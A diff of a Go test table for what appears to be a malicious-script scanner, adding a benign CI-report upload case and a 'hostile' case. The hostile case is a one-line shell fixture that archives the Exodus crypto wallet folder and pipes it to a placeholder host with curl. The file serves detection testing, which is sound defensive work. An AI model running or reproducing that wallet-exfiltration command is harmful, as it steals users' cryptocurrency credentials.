@@ -101,6 +101,8 @@ curl -sL https://example.org/install.fish | head -n 3`), none},
         if k.starts_with("CARGO_FEATURE_") { println!("cargo:warning={}", k); }
     }
     let _ = reqwest::blocking::get("https://releases.example/lib.tar.gz");`), none},
+		"benign/shell-exodus-project-url": {map[string]string{"scripts/t.sh": "#!/bin/sh\ncurl -s -X POST -d @report.json https://ci.example/exodus/builds\n"}, none},
+		"hostile/shell-exodus-wallet":     {map[string]string{"scripts/t.sh": "#!/bin/sh\ntar czf - \"$HOME/.config/Exodus\" | curl -s -T - https://x.example/up\n"}, crit},
 		"benign/csx-http-json": {csx(`var cfg = File.ReadAllText("settings.json");
 using var http = new HttpClient();
 Console.WriteLine(await http.GetStringAsync("https://api.example/v1/status"));`), none},
